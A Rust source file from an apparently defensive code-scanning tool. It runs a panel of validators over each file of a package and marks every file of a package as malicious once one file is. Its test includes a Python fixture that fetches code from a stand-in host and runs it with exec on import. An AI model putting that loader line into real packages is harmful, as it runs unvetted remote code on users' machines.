//! Judging an artifact: each file is parsed once, lowered once, and shown to every validator of the panel. Knows neither where
//! files come from nor what becomes of the verdicts.

use std::panic::{AssertUnwindSafe, catch_unwind};

use assay_manifests::{Finding, Language, Outcome, Span, Unit, Verdict};
use assay_validators::{
    declared::{DeclaredType, types},
    flow::{engine::Definitions, ir::Module, lower::lower},
    judges::{dependencies::manifests, licence::Licences},
    panel::{ArtifactView, FileView, UnitView, Validator},
    parse::{Parsed, parse},
};
use rayon::prelude::*;

use crate::extract::{Extracted, units, whole};

/// The judge of malice, by its name.
const MALICE: &str = "malice";

/// A file to judge: path inside its artifact and text.
pub struct Source {
    pub path: String,
    pub language: Language,
    pub text: String,
}

/// What is known of the artifact that the files belong to.
#[derive(Default)]
pub struct Surroundings<'a> {
    /// Configuration files and manifests: path and text, sorted by path.
    pub configs: Vec<(&'a str, &'a str)>,
    pub declared_license: Option<&'a str>,
    /// What is declared for each file and which licence texts speak for it; holds before `declared_license`.
    pub licences: Option<&'a dyn Licences>,
    /// Package URL, where it is a package.
    pub package: Option<&'a str>,
    /// Folders that are a package each; none where all is of one hand.
    pub packages: Vec<&'a str>,
    /// Each file is judged as a whole beside its functions: what stands outside of them is no sample, and is code.
    pub whole_files: bool,
}

/// One unit of a file with the verdicts on it, in the order of the panel.
pub struct Ruling {
    pub unit: Extracted,
    pub verdicts: Vec<Verdict>,
}

/// Judges texts that know nothing of each other, each as one unit; in order.
pub fn judge_whole(files: &[Source], about: &Surroundings<'_>, panel: &[Box<dyn Validator>]) -> Vec<Ruling> {
    let dependencies = manifests::of_artifact(&about.configs);
    files
        .par_iter()
        .filter_map(|file| {
            let read = read(file);
            let modules: Vec<&Module> = read.module.iter().collect();
            let definitions = Definitions::new(&modules);
            let artifact = ArtifactView {
                modules: &modules,
                definitions: Some(&definitions),
                configs: &about.configs,
                declared_license: about.declared_license,
                licences: about.licences,
                package: about.package,
                dependencies: &dependencies,
                ..ArtifactView::default()
            };
            let view = view(file, &read, &artifact);
            let unit = whole(file.language, &file.path, &file.text, read.module.as_ref());
            judge_units(&view, vec![unit], panel).pop()
        })
        .collect()
}

fn view<'a>(file: &'a Source, read: &'a Read, artifact: &'a ArtifactView<'a>) -> FileView<'a> {
    let (parsed, module) = (read.parsed.as_ref(), read.module.as_ref());
    FileView { path: &file.path, language: file.language, text: &file.text, parsed, module, artifact }
}

/// Source text that is held parsed at a time, in bytes. Trees and graphs take some thirty times as much.
const TOGETHER: usize = 24 << 20;

/// Judges the files of one artifact together, so that calls are followed across them: all of them up to 24 MiB of text, more in parts of about
/// that size, in their order and parted between folders where that can be. One list of rulings a file, in order; the same at any thread count.
pub fn judge_files(files: &[Source], about: &Surroundings<'_>, panel: &[Box<dyn Validator>]) -> Vec<Vec<Ruling>> {
    let mut rulings = judge_each(files, about, panel, |_, rulings| rulings);
    if about.package.is_some() {
        condemn_company(files, &mut rulings);
    }
    rulings
}

/// Judges as [`judge_files`] does, and keeps of each file what `keep` makes of its rulings: of many files, all rulings at once are large.
pub fn judge_each<T: Send>(
    files: &[Source],
    about: &Surroundings<'_>,
    panel: &[Box<dyn Validator>],
    keep: impl Fn(&Source, Vec<Ruling>) -> T + Sync,
) -> Vec<T> {
    let mut kept = Vec::with_capacity(files.len());
    for part in parts(files, TOGETHER) {
        kept.extend(judge_part(part, about, panel, &keep));
    }
    kept
}

/// Files in parts of at most about `most` bytes: a part ends with a folder, where one ends in its second half.
fn parts(files: &[Source], most: usize) -> Vec<&[Source]> {
    let folder = |file: &Source| file.path.rsplit_once('/').map_or(String::new(), |(folder, _)| folder.to_owned());
    let mut parts = Vec::new();
    let mut rest = files;
    while !rest.is_empty() {
        let (mut bytes, mut end, mut seam) = (0, 0, None);
        while end < rest.len() && (end == 0 || bytes + rest[end].text.len() <= most) {
            if bytes > most / 2 && folder(&rest[end - 1]) != folder(&rest[end]) {
                seam = Some(end);
            }
            bytes += rest[end].text.len();
            end += 1;
        }
        let end = if end < rest.len() { seam.unwrap_or(end) } else { end };
        let (part, after) = rest.split_at(end);
        parts.push(part);
        rest = after;
    }
    parts
}

fn judge_part<T: Send>(
    files: &[Source],
    about: &Surroundings<'_>,
    panel: &[Box<dyn Validator>],
    keep: &(impl Fn(&Source, Vec<Ruling>) -> T + Sync),
) -> Vec<T> {
    let read: Vec<Read> = files.par_iter().map(read).collect();
    let modules: Vec<&Module> = read.iter().filter_map(|read| read.module.as_ref()).collect();
    let dependencies = manifests::of_artifact(&about.configs);
    let sources: Vec<(&str, Language, &str)> = files.iter().map(|file| (file.path.as_str(), file.language, file.text.as_str())).collect();
    let trees: Vec<Option<&Parsed>> = read.iter().map(|read| read.parsed.as_ref()).collect();
    let definitions = Definitions::new(&modules);
    let artifact = ArtifactView {
        sources: &sources,
        parsed: &trees,
        modules: &modules,
        definitions: Some(&definitions),
        configs: &about.configs,
        declared_license: about.declared_license,
        licences: about.licences,
        package: about.package,
        packages: &about.packages,
        dependencies: &dependencies,
        ..ArtifactView::default()
    };
    files
        .par_iter()
        .zip(&read)
        .map(|(file, read)| {
            let view = view(file, read, &artifact);
            let mut extracted = units(view.language, view.path, view.text, view.module, &read.types);
            if about.whole_files && extracted.iter().all(|unit| unit.unit == Unit::Function) {
                extracted.extend(units(view.language, view.path, view.text, None, &[]));
            }
            keep(file, judge_units(&view, extracted, panel))
        })
        .collect()
}

/// What else stands in a package with a malicious file was written, or let in, by whoever put that file there: none of it is to learn from.
fn condemn_company(files: &[Source], rulings: &mut [Vec<Ruling>]) {
    let findings = |ruling: &Ruling| -> Vec<Finding> {
        ruling.verdicts.iter().filter(|verdict| verdict.validator == MALICE).flat_map(|verdict| verdict.findings.clone()).collect()
    };
    let culprit = files.iter().zip(rulings.iter()).find_map(|(file, rulings)| Some((file, rulings.iter().flat_map(findings).next()?)));
    let Some((file, finding)) = culprit else { return };
    let message = format!("{} of this package is malicious: {} at line {}", file.path, finding.message, finding.span.line);
    for ruling in rulings.iter_mut().flatten() {
        let span = ruling.unit.span;
        for verdict in ruling.verdicts.iter_mut().filter(|verdict| verdict.validator == MALICE && verdict.findings.is_empty()) {
            verdict.outcome = Outcome::Flagged;
            verdict.findings.push(Finding {
                rule: format!("{MALICE}/company"),
                cwe: finding.cwe.clone(),
                severity: finding.severity.clone(),
                message: message.clone(),
                span: Span { end_line: span.line, ..span },
                path: Vec::new(),
            });
        }
    }
}

/// What is read out of a text before it is judged.
#[derive(Default)]
struct Read {
    parsed: Option<Parsed>,
    module: Option<Module>,
    types: Vec<DeclaredType>,
}

/// Parses and lowers. A lowering that panics leaves the file without a module: unjudged, not lost.
fn read(file: &Source) -> Read {
    let Some(parsed) = parse(file.language, &file.text) else { return Read::default() };
    let tree = parsed.flat();
    let module = catch_unwind(AssertUnwindSafe(|| lower(file.language, &file.path, &file.text, &tree))).ok().flatten();
    let types = types(file.language, &file.text, &tree);
    Read { parsed: Some(parsed), module, types }
}

/// The units of a file, not judged.
pub fn extracted(file: &Source) -> Vec<Extracted> {
    let read = read(file);
    units(file.language, &file.path, &file.text, read.module.as_ref(), &read.types)
}

fn judge_units(view: &FileView<'_>, extracted: Vec<Extracted>, panel: &[Box<dyn Validator>]) -> Vec<Ruling> {
    let shown: Vec<UnitView<'_>> =
        extracted.iter().map(|unit| UnitView { unit: unit.unit, name: &unit.name, span: unit.span, content: &unit.content }).collect();
    let mut verdicts: Vec<Vec<Verdict>> = extracted.iter().map(|_| Vec::with_capacity(panel.len())).collect();
    for validator in panel {
        let said = catch_unwind(AssertUnwindSafe(|| validator.judge(view, &shown)));
        let said = match said {
            Ok(said) if said.len() == shown.len() => said,
            Ok(_) => vec![could_not(validator.as_ref(), "the validator answered for another number of units"); shown.len()],
            Err(_) => vec![could_not(validator.as_ref(), "the validator failed"); shown.len()],
        };
        for (all, verdict) in verdicts.iter_mut().zip(said) {
            all.push(verdict);
        }
    }
    extracted.into_iter().zip(verdicts).map(|(unit, verdicts)| Ruling { unit, verdicts }).collect()
}

fn could_not(validator: &dyn Validator, reason: &str) -> Verdict {
    Verdict {
        validator: validator.name().to_owned(),
        version: validator.version().to_owned(),
        ruleset_sha256: validator.ruleset(),
        outcome: Outcome::Unjudged,
        findings: Vec::new(),
        evidence: Vec::new(),
        unjudged: Vec::new(),
        examined_bytes: 0,
        reason: reason.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use assay_validators::{
        panel::{Knowledge, PanelConfig, panel},
        rule::RuleSet,
    };

    use super::*;

    #[test]
    fn a_big_artifact_is_read_in_parts_that_end_with_folders() {
        let source = |path: &str| Source { path: path.to_owned(), language: Language::Python, text: "x = 1\n".repeat(10) };
        let files: Vec<Source> = ["a/1.py", "a/2.py", "a/3.py", "b/1.py", "b/2.py", "c.py"].into_iter().map(source).collect();
        let sizes = |most: usize| parts(&files, most).into_iter().map(<[Source]>::len).collect::<Vec<_>>();
        assert_eq!(sizes(10_000), [6]);
        assert_eq!(sizes(260), [3, 3]);
        assert_eq!(sizes(1), [1; 6]);
        let total: usize = sizes(130).into_iter().sum();
        assert_eq!(total, files.len());
    }

    #[test]
    fn what_stands_beside_a_malicious_file_of_a_package_falls_with_it() {
        let source = |path: &str, text: &str| Source { path: path.to_owned(), language: Language::Python, text: text.to_owned() };
        let files = [
            source("a/__init__.py", "import requests\nexec(requests.get('https://cdn.example/x').text)\n"),
            source("a/colours.py", "def paint(text, colour):\n    return colour + text\n"),
        ];
        let rules = RuleSet::embedded().expect("rules load");
        let judges = panel(&PanelConfig::default(), &rules, &Knowledge::default());
        let said = |about: Surroundings<'_>| -> Vec<Vec<String>> {
            let rulings = judge_files(&files, &about, &judges);
            let findings = |rulings: &Vec<Ruling>| -> Vec<String> {
                let verdicts = rulings.iter().flat_map(|ruling| &ruling.verdicts).filter(|verdict| verdict.validator == MALICE);
                verdicts.flat_map(|verdict| &verdict.findings).map(|finding| finding.rule.clone()).collect()
            };
            rulings.iter().map(findings).collect()
        };
        let package = said(Surroundings { package: Some("pkg:pypi/a@1.0"), ..Surroundings::default() });
        assert!(!package[0].is_empty() && package[1] == ["malice/company"], "{package:?}");
        // A folder of files is not one author's.
        let folder = said(Surroundings::default());
        assert!(!folder[0].is_empty() && folder[1].is_empty(), "{folder:?}");
    }
}
